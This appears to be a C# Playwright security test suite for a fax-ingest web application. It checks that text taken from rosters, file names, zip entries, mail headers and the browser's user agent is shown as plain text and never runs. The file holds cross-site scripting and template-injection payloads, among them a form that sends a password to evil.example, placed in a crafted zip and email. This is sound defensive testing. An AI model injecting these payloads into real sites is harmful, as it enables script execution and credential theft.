using System.Collections.Concurrent;
using System.IO.Compression;
using System.Text;
using System.Text.Json;
using FaxIngest.Decide.Duplicates;
using FaxIngest.Hosting;
using FaxIngest.Model;
using FaxIngest.Pipeline;
using FaxIngest.Read;
using FaxIngest.Receive;
using FaxIngest.Store;
using FaxIngest.Validate;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.DependencyInjection.Extensions;
using Microsoft.Playwright;

namespace FaxIngest.Verify;

/// <summary>Text that strangers write (on paper, into names of files, subjects, rosters, even what a browser calls itself) in a real browser: it is shown, nothing of it runs, and the content security policy has nothing to stop.</summary>
public sealed class HostileTextTests(Chromium chromium) : IClassFixture<Chromium>
{
    /// <summary>Marks every element that one of them would make.</summary>
    private const string Mark = "data-evil";

    private static readonly LocatorAssertionsToBeVisibleOptions Soon = new() { Timeout = 10_000 };

    /// <summary>Each would run, load or send something if it were taken for markup where it is put: in text, in a quoted value, in a script, in a template.</summary>
    private static readonly string[] Texts =
    [
        $"<img {Mark} src=x onerror=evil()>", $"\"><svg {Mark} onload=evil()>", $"'/><script {Mark}>evil()</script>", $"</textarea></title></option></select><iframe {Mark} srcdoc='<script>parent.evil()</script>'></iframe>",
        $"<base {Mark} href=//evil.example/><meta {Mark} http-equiv=refresh content='0;url=//evil.example/'>", $"<form {Mark} action=//evil.example/><input name=password></form><style {Mark}>*{{display:none}}</style>",
        "javascript:evil()//", "{{constructor.constructor('evil()')()}}${evil()}", $"\" autofocus onfocus=evil() {Mark}=\"", $"--><a {Mark} id=location href=javascript:evil()>here</a><!--",
    ];

    private static string All => string.Join(' ', Texts);

    [Fact]
    public async Task Nothing_that_was_read_sent_or_typed_runs_on_any_page()
    {
        var roster = Roster.Parse(new StringReader($"cin,lastName,firstName,dateOfBirth,phone,street,city\n91234567A,{Csv(Texts[0])},{Csv(Texts[1])},1999-07-02,8315550142,{Csv(Texts[3])},{Csv(Texts[5])}\n"));
        await using var host = await DeskHost.StartAsync(services => services.Replace(ServiceDescriptor.Singleton<IRosterSource>(new FixedRoster(roster))));
        var read = Heard();
        var fax = await host.AddCaseAsync(All + ".tif", document: Hostile, read: read);
        var second = await host.AddCaseAsync(Texts[0] + ".tif", document: Hostile, read: read);
        var stuck = await AddStuckAsync(host);
        await host.Service<IDuplicateStore>().LinkAsync(Link(second.Id, fax.Id), CancellationToken.None);
        await host.Store.AuditAsync(new AuditEvent(DateTimeOffset.UtcNow, Texts[0], Texts[1], fax.Id, JsonSerializer.Serialize(new { said = All, changes = new[] { new { field = Texts[2], before = Texts[0], after = Texts[3] } } })), CancellationToken.None);
        await using var window = await Window.OpenAsync(chromium, host, AccountRole.Admin);
        await window.Page.GotoAsync("/people/anna");
        await window.Page.Locator("#keyName").FillAsync(Texts[0]);
        await window.Page.GetByRole(AriaRole.Button, new() { Name = "Make a key" }).ClickAsync();
        await Assertions.Expect(window.Page.GetByRole(AriaRole.Cell, new() { Name = Texts[0], Exact = true })).ToBeVisibleAsync(Soon);
        await window.LookAsync("a key's name", shows: true);

        foreach (var (address, shows) in new[]
        {
            ("/", true), ("/?state=received", false), ("/?state=stuck", false), ($"/?person={Uri.EscapeDataString(Texts[0])}", false), ($"/cases/{fax.Id}", true), ($"/cases/{second.Id}", true), ($"/cases/{stuck}", true),
            ($"/cases/{fax.Id}/1/members", true), ($"/cases/{fax.Id}/pages", false), ($"/cases/{fax.Id}/1/aside", false), ($"/compare/{second.Id}-1/{fax.Id}-1", true), ($"/cases/{fax.Id}/1/fields/member.lastName", true), ($"/upload?taken={second.Id}", true),
            ("/audit", true), ($"/audit?fax={fax.Id}", true), ($"/audit?actor={Uri.EscapeDataString(Texts[1])}", true), ("/boards", false), ("/trust", false), ("/ledger", false), ("/people", false), ("/people/anna", true),
            ($"/people/{Uri.EscapeDataString(Texts[0])}", false), ("/account", true), ($"/{Uri.EscapeDataString(Texts[0])}", false), ($"/account/proof?to={Uri.EscapeDataString("/" + Texts[1])}", false),
        })
        {
            await window.Page.GotoAsync(address);
            await window.LookAsync(address, shows);
        }

        // What the page's own script makes of it: readings, members in a window, a value taken over, a save that is refused, the next case.
        var page = window.Page;
        await page.GotoAsync($"/cases/{fax.Id}");
        await page.Keyboard.PressAsync("Alt+m");
        await Assertions.Expect(page.Locator("[data-pick]").First).ToBeFocusedAsync();
        await window.LookAsync("members", shows: true);
        await page.Keyboard.PressAsync("Enter");
        await window.LookAsync("a member taken over", shows: true);
        await page.Locator("#f-member-cin").FillAsync(Texts[1]);
        await page.Keyboard.PressAsync("F1");
        await page.Keyboard.PressAsync("Escape");
        await page.EvaluateAsync("document.querySelector('[data-save]').click()");
        await Assertions.Expect(page.GetByText("Saved. Something is still open here")).ToBeVisibleAsync(Soon);
        await window.LookAsync("a save", shows: true);

        await page.GetByRole(AriaRole.Button, new() { Name = "Sign out" }).ClickAsync();
        await Assertions.Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Sign in" })).ToBeVisibleAsync(Soon);
        await page.GotoAsync($"/sign-in?to={Uri.EscapeDataString("/" + Texts[1])}");
        await page.Locator("[name=name]").FillAsync(Texts[1]);
        await page.Locator("[name=password]").FillAsync("wrong password here");
        await page.Keyboard.PressAsync("Enter");
        await Assertions.Expect(page.GetByText("Name or password is wrong")).ToBeVisibleAsync();
        await window.LookAsync("a refused sign-in", shows: false);
        Assert.True(window.Absent.Count == 0, string.Join(", ", window.Absent));
    }

    [Fact]
    public async Task Names_inside_a_zip_and_the_subject_of_a_mail_end_as_text_on_the_page()
    {
        await using var host = await DeskHost.StartAsync(DeskHost.DecideByItself);
        string fax = Path.Combine(Faxes(), "typed-office-5001-0003-cs-meals.tif");
        string zip = await TakeInAsync(host, "forms.zip", Zip(fax));
        string mail = await TakeInAsync(host, "mail.eml", Mail(fax));
        await using var window = await Window.OpenAsync(chromium, host, AccountRole.Verifier);
        foreach (string id in (string[])[zip, mail])
        {
            await window.Page.GotoAsync($"/cases/{id}");
            await window.LookAsync($"{(id == zip ? "zip" : "mail")}", shows: true);
            string parts = await window.Page.Locator(".parts").TextContentAsync() ?? "";
            Assert.Contains($"<img {Mark} src=x onerror=evil()>", parts, StringComparison.Ordinal);
            await window.Page.GotoAsync($"/api/documents/{id}");
            await window.LookAsync("the same as JSON", shows: true);
        }
        Assert.Empty(window.Absent);
    }

    /// <summary>Else none of the above would notice anything.</summary>
    [Fact]
    public async Task What_does_run_is_noticed()
    {
        await using var host = await DeskHost.StartAsync();
        await using var window = await Window.OpenAsync(chromium, host, AccountRole.Verifier, quiet: false);
        await window.Page.EvaluateAsync($"document.body.insertAdjacentHTML('beforeend', \"<img {Mark} src=x onerror=evil()>\")");
        await Assert.ThrowsAnyAsync<Xunit.Sdk.XunitException>(() => window.LookAsync("canary", shows: false));
        await window.Page.EvaluateAsync($"document.querySelector('[{Mark}]').remove()");
        await window.Page.WaitForFunctionAsync("window.stopped > 0");
        await Assert.ThrowsAnyAsync<Xunit.Sdk.XunitException>(() => window.LookAsync("canary", shows: false));
        await using var second = await Window.OpenAsync(chromium, host, AccountRole.Verifier, quiet: false, name: "bert");
        await second.Page.EvaluateAsync("window.evil()");
        await Assert.ThrowsAnyAsync<Xunit.Sdk.XunitException>(() => second.LookAsync("canary", shows: false));
    }

    private static ReadResult Heard()
    {
        var read = SampleCase.Read();
        Reading Of(string path, string text) => new()
        {
            Field = path, Kind = "text", Page = 1, Box = new PageBox(0.1, 0.1, 0.4, 0.15), Text = text, Value = FieldValue.Of(text), Evidence = new Evidence { Engines = 2, Agreeing = 1 },
            Engines = [new EngineReading("own", text, text, new RawScore(0.5)), new EngineReading("tesseract", All, null, new RawScore(0.5))],
        };
        return read with { Referrals = [read.Referrals[0] with { Readings = [Of("member.lastName", Texts[0]), Of("member.cin", Texts[1]), Of("narrative", All)] }] };
    }

    private static Document Hostile(string id)
    {
        var document = SampleCase.Document(id);
        var fields = document.Referrals[0].Fields.ToDictionary();
        foreach (var (path, text) in new[] { ("member.lastName", Texts[0]), ("member.firstName", Texts[1]), ("member.cin", Texts[2]), ("narrative", All) }) fields[path] = fields[path] with { Value = FieldValue.Of(text), Text = text, Decision = "verify" };
        return document with
        {
            FileName = All,
            Source = new Source("mail", SampleCase.Received, "8314305850", Texts[0], Texts[1], All, Texts[2]),
            Parts = [new DocumentPart(Texts[0], Texts[1], new string('0', 64), "read") { PageCount = 1 }, new DocumentPart(Texts[3], Texts[4], new string('1', 64), "damaged", All)],
            Referrals = [document.Referrals[0] with { Fields = fields, Reasons = [new Reason("low-confidence", Texts[0], "member.cin"), new Reason(Texts[5], All), new Reason("odd", Texts[3], Texts[4])], Missing = [Texts[1]] }],
        };
    }

    private static DuplicateLink Link(string later, string earlier) =>
        new(later, new ProbableDuplicate($"{later}-1", earlier, $"{earlier}-1", 0.97, [new Reason("same-caller", All), new Reason("same-value", Texts[0], "member.lastName")]));

    private static async Task<string> AddStuckAsync(DeskHost host)
    {
        var (sha256, length) = await host.Service<IBlobStore>().PutAsync(new MemoryStream(Guid.NewGuid().ToByteArray()), CancellationToken.None);
        var delivery = new Delivery { Reasons = [new Reason("sidecar-odd", Texts[0])], Urgent = true };
        var arrival = new Arrival(sha256, length, Texts[0] + ".tif", new Source("fax", SampleCase.Received, "8314305850", Texts[0], null, null, Texts[1]), sha256) { Delivery = delivery };
        var admission = await host.Store.AdmitAsync(arrival, CancellationToken.None);
        await host.EndAsync(FaxState.Received, admission.FaxId, new Outcome.GiveUp([new Reason("reader-crashed", All)]), WorkProduct.None);
        return admission.FaxId;
    }

    private static string Csv(string text) => $"\"{text.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";

    private static byte[] Zip(string fax)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            zip.CreateEntryFromFile(fax, $"<img {Mark} src=x onerror=evil()>.tif");
            foreach (string name in (string[])[$"\"><svg {Mark} onload=evil()>.bin", $"'-->&lt;b {Mark}&gt;.exe"])
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write("no document"u8);
            }
        }
        return bytes.ToArray();
    }

    private static byte[] Mail(string fax) => Encoding.UTF8.GetBytes($"""
        From: "<img {Mark} src=x onerror=evil()>" <sender@example.org>
        To: faxes@example.org
        Subject: <img {Mark} src=x onerror=evil()> referral
        Date: Fri, 20 Nov 2026 10:00:00 -0800
        Message-ID: <1@example.org>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary=b

        --b
        Content-Type: text/html; charset=utf-8

        <p>Please see the form. <script {Mark}>evil()</script><img {Mark} src=x onerror=evil()></p>
        --b
        Content-Type: image/tiff; name="<img {Mark} src=x onerror=evil()>.tif"
        Content-Disposition: attachment; filename="<img {Mark} src=x onerror=evil()>.tif"
        Content-Transfer-Encoding: base64

        {Convert.ToBase64String(File.ReadAllBytes(fax), Base64FormattingOptions.InsertLineBreaks)}
        --b--

        """.ReplaceLineEndings("\r\n"));

    /// <summary>Read by the product's own reader, decided by its own decisions.</summary>
    private static async Task<string> TakeInAsync(DeskHost host, string name, byte[] bytes)
    {
        var (sha256, length) = await host.Service<IBlobStore>().PutAsync(new MemoryStream(bytes), CancellationToken.None);
        var admission = await host.Store.AdmitAsync(new Arrival(sha256, length, name, new Source("mail", SampleCase.Received), sha256), CancellationToken.None);
        string images = Directory.CreateDirectory(Path.Combine(host.Folder, "pages", admission.FaxId)).FullName;
        var read = await host.Service<IDocumentReader>().ReadAsync(new ReadRequest(admission.FaxId, host.Service<IBlobStore>().PathOf(sha256), name, images), CancellationToken.None);
        var fax = (await host.Store.FindAsync(admission.FaxId, CancellationToken.None))!;
        var document = host.Service<IDecisionPipeline>().Decide(fax, read, []);
        await host.EndAsync(FaxState.Received, fax.Id, new Outcome.Advance(FaxState.Read, []), new WorkProduct(Read: read));
        await host.EndAsync(FaxState.Read, fax.Id, new Outcome.AskPerson(document.OpenReasons()), new WorkProduct(Document: document));
        return fax.Id;
    }

    private static string Faxes()
    {
        for (var folder = new DirectoryInfo(AppContext.BaseDirectory); folder is not null; folder = folder.Parent)
            if (Directory.Exists(Path.Combine(folder.FullName, "testdata", "faxes"))) return Path.Combine(folder.FullName, "testdata", "faxes");
        throw new DirectoryNotFoundException("testdata/faxes");
    }

    /// <summary>A browser that notes what runs, what the policy stops and what is asked of other hosts.</summary>
    private sealed class Window : IAsyncDisposable
    {
        private readonly IBrowserContext context;
        private readonly ConcurrentQueue<string> noted = [];
        private readonly bool quiet;

        private Window(IBrowserContext context, IPage page, bool quiet) => (this.context, Page, this.quiet) = (context, page, quiet);

        internal IPage Page { get; }

        /// <summary>Where the text was to be shown and is not: nothing is proved there.</summary>
        internal List<string> Absent { get; } = [];

        internal static async Task<Window> OpenAsync(Chromium chromium, DeskHost host, AccountRole role, bool quiet = true, string name = "anna")
        {
            var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { BaseURL = host.Address.ToString(), ViewportSize = new ViewportSize { Width = 1440, Height = 900 }, UserAgent = $"Mozilla/5.0 {Texts[0]} {Texts[1]}" });
            var window = new Window(context, await context.NewPageAsync(), quiet);
            var page = window.Page;
            await page.ExposeFunctionAsync("note", (string what) => window.noted.Enqueue(what));
            await page.AddInitScriptAsync("""
                window.stopped = 0;
                window.evil = () => { window.note('it ran'); return ''; };
                document.addEventListener('securitypolicyviolation', event => { window.stopped++; window.note(`the policy stopped ${event.violatedDirective} ${event.blockedURI}`); });
                """);
            page.Dialog += async (_, dialog) =>
            {
                window.noted.Enqueue("a dialog opened");
                await dialog.DismissAsync();
            };
            page.Request += (_, request) => { if (new Uri(request.Url) is { Scheme: "http" or "https" } to && to.Authority != host.Address.Authority) window.noted.Enqueue($"{to.Host} was asked"); };
            page.PageError += (_, fault) => window.noted.Enqueue(fault);
            await host.AddAccountAsync(name, role);
            await page.GotoAsync("/sign-in");
            await page.Locator("[name=name]").FillAsync(name);
            await page.Locator("[name=password]").FillAsync(DeskHost.Password);
            await page.Keyboard.PressAsync("Enter");
            await Assertions.Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Verification queue" })).ToBeVisibleAsync(new() { Timeout = 10_000 });
            return window;
        }

        /// <summary>Nothing ran, nothing had to be stopped, nothing became an element; and where it is meant to be shown, it is there to be read.</summary>
        internal async Task LookAsync(string where, bool shows)
        {
            Assert.Equal(0, await Page.Locator($"[{Mark}]").CountAsync());
            Assert.Equal(0, await Page.Locator("script:not([src]), iframe, base, [onerror], [onload], [onfocus], a[href^='javascript:']").CountAsync());
            string text = await Page.EvaluateAsync<string>("document.documentElement.textContent + [...document.querySelectorAll('input, textarea, [title]')].map(each => `${each.value ?? ''} ${each.title ?? ''}`).join(' ')");
            if (shows && !text.Contains("evil", StringComparison.Ordinal)) Absent.Add(where);
            Assert.True(noted.IsEmpty, $"{where}: {string.Join("; ", noted)}");
        }

        public async ValueTask DisposeAsync()
        {
            await context.DisposeAsync();
            if (quiet) Assert.Empty(noted);
        }
    }
}
